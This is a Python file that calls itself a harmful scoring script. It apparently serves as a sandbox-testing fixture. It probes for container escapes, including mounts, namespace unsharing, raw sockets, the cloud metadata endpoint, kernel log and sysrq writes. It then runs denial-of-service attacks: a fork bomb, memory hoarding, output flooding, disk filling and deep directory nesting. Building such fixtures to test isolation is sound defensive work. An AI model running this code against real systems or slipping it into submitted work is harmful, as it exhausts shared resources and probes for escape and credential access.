"""A scoring script that means harm: it tries doors, then attacks by what ATTACK names."""

import contextlib
import ctypes
import json
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20


def init() -> None:
    """Try every door, then attack from processes of its own."""
    print("probe " + json.dumps(probe()), flush=True)
    attacks = {"bomb": bomb, "hoard": hoard, "flood": flood, "fill": fill, "dig": dig}
    for name in os.environ.get("ATTACK", "").split():
        if os.fork() == 0:
            while True:
                with contextlib.suppress(OSError, MemoryError, RecursionError):
                    attacks[name]()
                time.sleep(0.01)


def run(_raw_data: str) -> int:
    """Answer as a model would."""
    return 1


def probe() -> dict[str, int]:
    """Return the error number of each try; 0 where it worked."""
    doors: dict[str, Callable[[], int]] = {
        "mount": lambda: number(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
        "unshare-mount": lambda: in_child(lambda: number(libc.unshare(0x20000))),
        "unshare-user": lambda: in_child(lambda: number(libc.unshare(0x10000000))),
        "alg": lambda: opened(38, 5),
        "raw": lambda: opened(2, 3, 1),
        "packet": lambda: opened(17, 3),
        "metadata": metadata,
        "kernel-log": lambda: written("/dev/kmsg", os.O_WRONLY),
        "sysrq": lambda: written("/proc/sysrq-trigger", os.O_WRONLY),
        "root": lambda: written("/planted", os.O_WRONLY | os.O_CREAT),
    }
    found = {}
    for name, door in doors.items():
        try:
            found[name] = door()
        except OSError as error:
            found[name] = error.errno or -1
    return found


def written(path: str, flags: int) -> int:
    """Open a file and close it."""
    os.close(os.open(path, flags))
    return 0


def number(result: int) -> int:
    return ctypes.get_errno() if result < 0 else 0


def in_child(door: Callable[[], int]) -> int:
    pid = os.fork()
    if pid == 0:
        os._exit(door())
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def opened(family: int, kind: int, protocol: int = 0) -> int:
    socket.socket(family, kind, protocol).close()
    return 0


def metadata() -> int:
    with socket.socket() as line:
        line.settimeout(1)
        return line.connect_ex(("169.254.169.254", 80))


def bomb() -> None:
    while True:
        if os.fork() == 0:
            while True:
                pass


def hoard() -> None:
    if os.fork() == 0:
        Path("/proc/self/oom_score_adj").write_text("1000")
        held = [b"x" * MIB for _ in range(300)]
        time.sleep(1)
        os._exit(len(held) % 2)
    os.wait()


def flood() -> None:
    os.write(1, b"x" * 65535 + b"\n")


def fill() -> None:
    with Path("/tmp/full").open("ab") as file:
        file.write(bytes(MIB))


def dig() -> None:
    """Folders deeper than a program that recurses can follow."""
    for place in ("/run/headland", "/tmp"):
        here = os.open(place, os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d", dir_fd=here)
            inner = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = inner
        os.close(here)
